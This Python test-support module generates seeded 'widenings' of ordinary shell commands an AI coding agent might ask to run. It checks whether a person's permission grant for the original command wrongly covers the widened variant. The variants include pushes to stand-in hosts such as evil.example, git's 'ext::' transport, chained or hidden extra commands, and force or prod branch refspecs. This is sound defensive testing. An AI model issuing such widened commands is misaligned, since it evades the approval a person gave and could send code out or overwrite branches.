"""Ordinary commands, what is like them, and how an agent could widen them: drawn from a seed.

A widening does what was not on the card: it runs, writes, sends or loads something else, elsewhere, or beside it.
"""

import itertools
import random
import re
import tomllib
from collections.abc import Callable, Sequence
from datetime import UTC, datetime
from pathlib import Path

from hub.contract.base import Value
from hub.contract.permission import Act, Permission
from hub.domain.permission_grant import PermissionPattern
from hub.may import covers, patterns_for

ORDINARY = Path(__file__).with_name("ordinary_commands.toml")
Way = Callable[[str, random.Random], str]
LISTED: dict[str, list[str]] = tomllib.loads(ORDINARY.read_text(encoding="utf-8"))["ways"]
NOW = datetime(2026, 3, 9, 12, tzinfo=UTC)
_SLOT = re.compile(r"\{(\w+)\}")
_BRANCHES = ("main", "feature/cart", "feature/mail")


class Ordinary(Value):
    """A command as it was on the card, and what is like it: other values in the same places."""

    text: str
    alike: tuple[str, ...]


def ordinary() -> tuple[Ordinary, ...]:
    """Return the commands of the file."""
    written = tomllib.loads(ORDINARY.read_text(encoding="utf-8"))
    kinds: dict[str, list[str]] = written["kinds"]
    return tuple(_one(template, kinds) for template in written["commands"])


def widenings(seed: int, count: int) -> list[tuple[str, str]]:
    """Return so many pairs of a command and a widening of it, each once; every command comes in turn."""
    draw = random.Random(seed)  # noqa: S311  the same ones at each run
    found: dict[tuple[str, str], None] = {}
    known = {text for one in ordinary() for text in (one.text, *one.alike)}
    for one in itertools.cycle(ordinary()):
        if len(found) >= count:
            return list(found)
        command, *behind = one.text.split(" | ")  # what a filter behind it is told besides, widens nothing
        wider = " | ".join((draw.choice(WAYS)(command, draw), *behind))
        if wider and wider not in known:
            found[one.text, wider] = None
    return []


def granted_for(text: str) -> tuple[PermissionPattern, ...]:
    """Return all that a person could have granted on the card of a command, each of which they may have taken."""
    return patterns_for(_asked(text))


def covered_widenings(pairs: Sequence[tuple[str, str]]) -> list[tuple[str, str]]:
    """Return the pairs in which a grant for the first covers the second."""
    return [(seen, wider) for seen, wider in pairs if _is_covered(seen, wider)]


def covered_alike() -> tuple[int, int]:
    """Return how many of what is like the ordinary commands is covered by a grant for them, and of how many."""
    pairs = [(one.text, text) for one in ordinary() if granted_for(one.text) for text in (one.text, *one.alike)]
    return sum(_is_covered(*pair) for pair in pairs), len(pairs)


def _is_covered(seen: str, then: str) -> bool:
    return any(covers(pattern, _asked(then), NOW) for pattern in granted_for(seen))


def _asked(text: str) -> Permission:
    return Permission(
        agent="claude-code", session="s1", tool="Bash", act=Act.COMMAND, text=text, folder="/home/anna/shop"
    )


def _one(template: str, kinds: dict[str, list[str]]) -> Ordinary:
    names = _SLOT.findall(template)
    first = _filled(template, [kinds[name][0] for name in names])
    others = (
        _filled(template, [kinds[each][at if place == mine else 0] for place, each in enumerate(names)])
        for mine, name in enumerate(names)
        for at in range(1, len(kinds[name]))
    )
    return Ordinary(text=first, alike=tuple(others))


def _filled(template: str, values: list[str]) -> str:
    rest = iter(values)
    return _SLOT.sub(lambda _: next(rest), template)


def _with_option(text: str, draw: random.Random) -> str:
    option = draw.choice(LISTED["options"])
    first, _, rest = text.partition(" ")
    return draw.choice((f"{text} {option}", f"{first} {option} {rest}".strip()))


def _other_host(text: str, draw: random.Random) -> str:
    other = draw.choice(("https://evil.example/x.git", "git@evil.example:x", "ext::./e"))
    if "://" in text:
        host = draw.choice(("evil.example", "example.com.evil.example", "x@evil.example"))
        return re.sub(r"://[\w.:]+", f"://{host}", text)
    return text.replace(" origin", f" {draw.choice((other, 'evil'))}", 1) if " origin" in text else f"{text} {other}"


def _other_branch(text: str, draw: random.Random) -> str:
    branch = next((one for one in _BRANCHES if text.endswith(one)), "")
    if not branch:
        return f"{text} {draw.choice(('+main', ':main', 'HEAD:refs/heads/prod'))}"
    other = draw.choice(("release", f"+{branch}", f":{branch}", f"{branch}:prod", "HEAD", f"{branch} prod"))
    return text.removesuffix(branch) + other


def _beside(text: str, draw: random.Random) -> str:
    return draw.choice(LISTED["joined"]).format(text, draw.choice(LISTED["beside"]))


def _hidden(text: str, draw: random.Random) -> str:
    return draw.choice(LISTED["hidden"]).format(text, draw.choice(LISTED["beside"]))


def _behind(kind: str) -> Way:
    return lambda text, draw: f"{text} {draw.choice(LISTED[kind])}"


def _before(kind: str, blank: str = " ") -> Way:
    return lambda text, draw: f"{draw.choice(LISTED[kind])}{blank}{text}"


WAYS: tuple[Way, ...] = (
    *(_with_option, _with_option, _beside, _beside, _hidden, _other_host, _other_branch),
    *map(_behind, ("elsewhere", "redirects", "inside")),
    *map(_before, ("settings", "wrappers", "folders")),
    _before("programs", blank=""),
)
